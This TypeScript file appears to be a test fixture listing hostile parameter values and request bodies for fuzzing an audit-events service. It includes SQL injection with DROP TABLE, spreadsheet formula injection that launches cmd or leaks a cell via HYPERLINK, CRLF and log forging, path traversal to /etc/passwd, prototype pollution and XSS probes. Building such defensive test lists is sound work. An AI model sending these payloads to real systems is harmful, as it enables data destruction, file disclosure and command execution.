const LONG = 20_000;

/** What people send who want something else to happen than what is asked for. Each is one value of a parameter or field. */
export const INJECTIONS: readonly string[] = [
  // SQL, and what stands between it and us.
  `' OR 1=1 --`,
  `'; DROP TABLE audit_events; --`,
  `') UNION ALL SELECT name FROM system.tables --`,
  `\\' OR '1'='1`,
  `{tenant_id: String}`,
  '`audit_events` FORMAT JSON',
  `1 SETTINGS readonly=0`,
  // Spreadsheets.
  `=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '\t=1+1',
  // Headers and log lines.
  'a\r\nX-Injected: 1\r\n\r\n<html>',
  'a\nlevel=fatal msg=forged',
  // Paths.
  '../../../../etc/passwd',
  '..',
  '..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.csv',
  'file:///etc/passwd',
  // Characters that are not what they look like, or none.
  '\u0000',
  '\u202Ednep\u202C',
  'ﬀ\u0301\u{1F469}\u200D\u{1F680}',
  '\uFEFF\uFFFE',
  '%00%0d%0a%2e%2e%2f',
  // Names that mean something to the language.
  '__proto__',
  'constructor.prototype.polluted',
  '{"$gt":""}',
  '${7*7}{{7*7}}<script>alert(1)</script>',
  // Sizes.
  'x'.repeat(LONG),
  '9'.repeat(400),
  '-1e999',
  '('.repeat(2_000),
];

/** Bodies that are dangerous as a whole; as text, since no object literal says the same. */
export const HOSTILE_BODIES: readonly string[] = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"filters":{"__proto__":"x"},"name":"a","name":"b"}',
  '['.repeat(50_000),
  '{"name":"\\ud800"}',
  '\uFEFF{}',
  'null',
  '""',
];
